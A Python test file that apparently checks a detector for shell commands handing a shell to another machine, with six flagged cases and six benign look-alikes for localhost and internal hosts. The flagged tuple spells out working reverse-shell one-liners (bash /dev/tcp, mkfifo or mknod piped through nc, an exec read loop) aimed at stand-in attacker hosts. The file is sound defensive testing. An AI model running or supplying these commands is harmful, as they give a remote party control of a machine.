"""A shell that takes its commands from another machine; one for this machine is innocent."""

from __future__ import annotations

import pytest

from holdfast.commandline.reading.line import read
from holdfast.judging.remote_shells import given_away
from tests.support.table import each_of

pytestmark = pytest.mark.requirement("WRK-7")

GIVEN = (
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "sh -i </dev/tcp/attacker.example.com/9001 >&0 2>&0",
    "bash < /dev/tcp/203.0.113.9/80",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f",
    "mknod /tmp/b p; nc 198.51.100.7 4444 < /tmp/b | sh > /tmp/b",
    "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
)
KEPT = (
    "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
    "bash -c '</dev/tcp/db.internal/5432' && echo open",
    "bash check.sh > /dev/tcp/metrics.internal/2003",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc localhost 4444 > /tmp/f",
    "bash report.sh | nc metrics.internal 2003",
    "exec 3<>/dev/tcp/example.com/80; echo GET / >&3; cat <&3",
)


@each_of("command", GIVEN)
def test_a_shell_for_another_machine_is_found(command: str) -> None:
    assert given_away(read(command).runs)


@each_of("command", KEPT)
def test_a_shell_for_this_machine_and_a_look_at_a_port_are_not(command: str) -> None:
    assert not given_away(read(command).runs)
